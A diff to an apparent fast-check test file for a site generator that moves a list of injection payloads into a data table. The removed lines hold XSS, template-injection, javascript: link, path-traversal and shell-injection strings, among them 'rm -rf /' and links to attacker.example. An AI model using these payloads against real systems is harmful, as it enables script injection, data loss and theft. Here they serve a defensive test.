@@ -2,63 +2,19 @@ import fc from "fast-check";
 import { stringify } from "yaml";
 import { anyCharacter } from "../support/any-text.ts";
 import type { Files } from "../support/site.ts";
+import { tablesOf } from "../support/tables.ts";
+
+const tables = tablesOf<{ payloads: string[] }>(import.meta.url);
 
 /** What a text calls if any of it runs as a script: `opened-pages.ts` listens. */
 const call = "window.attacked('ran')";
 
 /** Texts that mean something to HTML, XML, JSON, CSS, YAML, Markdown, templates, shells and browsers. */
 export const payloads = [
-  `<script>${call}</script>`,
-  `"><script>${call}</script>`,
-  `'><img src=x onerror="${call}">`,
-  `</title><svg onload="${call}">`,
-  `</script><script>${call}</script>`,
-  `</style><script>${call}</script>`,
-  `--><script>${call}</script><!--`,
-  `]]><script xmlns="http://www.w3.org/1999/xhtml">${call}</script><![CDATA[`,
-  `<iframe srcdoc="&lt;script&gt;parent.attacked()&lt;/script&gt;">`,
-  `<base href="https://attacker.example/">`,
-  `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
-  `<link rel="stylesheet" href="https://attacker.example/x.css">`,
-  `<form action="https://attacker.example/"><button>`,
-  `<math><mtext></form><form><mglyph><style></math><img src onerror="${call}">`,
-  `<details open ontoggle="${call}">`,
-  `[a](javascript:${call})`,
-  `[a](JaVaScRiPt&colon;${call})`,
-  `[a](data:text/html,<script>${call}</script>)`,
-  `[a](vbscript:x) ![b](https://attacker.example/pixel.png)`,
-  `<https://attacker.example/"onmouseover="${call}>`,
-  `![x](x "onerror=${call}")`,
-  `[a](java&#115;cript:${call}) [b](java\u00adscript:${call}) [c](\\\\attacker.example)`,
-  `![a](data:image/svg+xml,<svg/onload=${call}>) ![b](//attacker.example/pixel.png)`,
-  `https://youtube.com@attacker.example/watch?v=aaaaaaaaaaa`,
-  `https://www.facebook.com/javascript:${call}/videos/1`,
-  `https://www.google.com/maps/embed?pb=!1m18"><script>${call}</script>`,
-  `<svg><animate onbegin="${call}" attributeName=x></svg><input autofocus onfocus="${call}">`,
-  `<object data="https://attacker.example/"><embed src="https://attacker.example/">`,
-  `{{ 7 * 7 }} {% include "x" %} {# x #} <%= 7 %> \${7*7} #{7*7}`,
-  `{{ constructor.constructor("${call}")() }}`,
-  "url(https://attacker.example/x)} body{background:red",
-  "expression(alert(1))",
-  "\\u003cscript\\u003e",
-  "&lt;script&gt; &#60;script&#62; &amp;amp;",
-  "--- # : - ? ! & * | > ' \" % @ `",
-  "!!js/function 'x'",
-  "\u0024{IFS} $(id) `id` ; rm -rf /",
-  "../../../../etc/passwd",
-  "..%2f..%2f%00",
-  "con.txt aux NUL",
-  "\u200Fesrever\u200E \u061Cmarked",
-  "\u200B\u200D\uFEFF",
-  "نص عربي من اليمين إلى اليسار",
-  "עברית 日本語 हिन्दी ไทย",
-  "👩‍👩‍👧‍👦🏳️‍🌈 🇮🇩",
-  "Z̸̢͎̀a̵l̷g̶o̴",
-  "\u0085\u2028\u2029line ends",
+  ...tables.payloads.map((text) => text.replaceAll("{call}", call)),
   "A".repeat(10_000),
   "李".repeat(300),
-  "constructor __proto__ toString hasOwnProperty",
-] as const;
+];
 
 const payload = fc.constantFrom(...payloads);
 /** Mostly a payload within words, at times any text at all. */
